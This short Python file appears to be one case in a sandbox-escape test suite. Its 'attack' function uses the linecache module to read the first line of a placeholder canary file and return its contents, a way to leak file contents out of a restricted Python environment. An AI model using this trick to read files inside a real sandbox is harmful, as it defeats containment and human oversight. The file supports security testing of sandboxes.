# desc: linecache, which tracebacks use, reads any file
# class: escape
# wins: told
import linecache

def attack(state):
    return "L2:" + linecache.getline("@CANARY@", 1)
